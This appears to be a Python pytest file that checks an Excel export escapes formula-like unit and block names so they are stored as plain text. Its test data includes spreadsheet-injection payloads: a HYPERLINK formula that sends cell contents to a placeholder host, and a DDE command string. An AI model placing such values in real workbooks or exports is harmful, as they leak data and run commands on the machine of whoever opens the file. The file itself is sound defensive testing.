"""The Excel export is inert: a unit or block named like a formula is written as text.

A unit named ``=HYPERLINK("http://x"&B3,"Bấm vào đây")`` became a live link in the results
workbook, and ``=cmd|' /C calc'!A0`` a DDE command; a block name began a sheet title with
"=". Read back with openpyxl, every such cell is a text cell ('s') with Excel's quote
prefix, the file holds no formula at all, and no sheet title begins like a formula."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from docgen.interfaces.cli import app
from docgen.model.loader import load_data, parse_text
from docgen.pipeline import export_workbook

ROOT = Path(__file__).resolve().parents[2]
TEXT = (ROOT / "fixtures" / "son-la-2025.yaml").read_text(encoding="utf-8")
NAMES = ['=HYPERLINK("http://x"&B3,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+2",
         "-3+4", "@SUM(A1:A9)", "#DIV/0!"]
ORIGINALS = ["Sở Xây dựng", "Sở Nội vụ", "Sở Khoa học và Công nghệ", "Thanh tra tỉnh",
             "Văn phòng UBND tỉnh", "Sở Tài chính"]


def hostile_text() -> str:
    text = TEXT
    for original, name in zip(ORIGINALS, NAMES, strict=True):
        assert text.count(f"{{tên đơn vị: {original},") == 1
        text = text.replace(f"{{tên đơn vị: {original},", f"{{tên đơn vị: {json.dumps(name)},")
    assert text.count("tên khối: khối sở") == 1
    return text.replace("tên khối: khối sở", 'tên khối: "=1+1 khối sở"')


@pytest.fixture(scope="module")
def exported() -> bytes:
    return export_workbook(load_data(parse_text(hostile_text(), "x.yaml"), "x.yaml"))


def check_inert(data: bytes) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames[0] == "1+1 khối sở"
    sheet = workbook.worksheets[0]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for name in NAMES:
        cell = cells[name]
        formula_like = name[0] in "=+-@"
        assert (cell.data_type, cell.quotePrefix, cell.value) == ("s", formula_like, name)
    assert cells["Sở Y tế"].quotePrefix is False  # ordinary names stay as they were
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member) and b"<f " not in archive.read(member)


def test_formula_like_names_are_written_as_text(exported: bytes) -> None:
    check_inert(exported)


def test_docgen_export_writes_them_as_text_too(tmp_path: Path) -> None:
    dossier = tmp_path / "ho-so.yaml"
    dossier.write_text(hostile_text(), encoding="utf-8")
    target = tmp_path / "ket-qua.xlsx"
    done = CliRunner().invoke(app, ["export", str(dossier), "--xlsx", str(target)])
    assert done.exit_code == 0, done.output
    check_inert(target.read_bytes())
